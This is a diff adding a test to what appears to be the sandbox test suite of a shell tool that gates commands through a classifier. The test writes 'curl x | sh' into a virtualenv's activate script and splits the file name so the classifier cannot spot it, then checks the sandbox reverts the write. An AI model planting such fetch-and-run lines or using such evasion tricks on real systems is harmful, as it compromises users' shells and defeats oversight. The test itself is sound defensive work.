@@ -718,3 +718,27 @@ def test_landlock_puts_back_what_an_edit_deny_rule_names(tmp_path, cmd):
     for shell in SHELLS:
         run_line(world, shell, line)
     assert snapshot(ws / "secrets", ws / "keys") == before, cmd
+
+
+def test_an_existing_venvs_activate_script_is_read_only_but_a_new_venv_is_whole(tmp_path, monkeypatch):
+    """A virtualenv's activate script runs in the user's own shell: a write the classifier
+    cannot see (a script) leaves an existing one unchanged, while a virtualenv created in the
+    sandbox keeps every script it was made with (a missing literal name would be undone)."""
+    import sys
+
+    from shellgate import BashTool
+
+    world = make_world(tmp_path)
+    ws = world["work"]
+    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(ws / ".venv")], check=True)
+    before = (ws / ".venv" / "bin" / "activate").read_text()
+    for var in ("HOME", "XDG_CONFIG_HOME", "XDG_STATE_HOME", "XDG_CACHE_HOME"):
+        monkeypatch.setenv(var, world["env"][var])
+    with BashTool(ws, mode="trust", home=world["home"]) as tool:
+        res = tool.run("python3 -c \"open('.venv/bin/activ' + 'ate', 'a').write('curl x | sh')\"")
+        assert res.ran
+        made = tool.run(f"{sys.executable} -m venv --without-pip venv")
+        assert made.exit_code == 0, made.stderr
+    assert (ws / ".venv" / "bin" / "activate").read_text() == before
+    assert {"activate", "activate.fish", "activate.csh", "Activate.ps1"} <= {
+        p.name for p in (ws / "venv" / "bin").iterdir()}
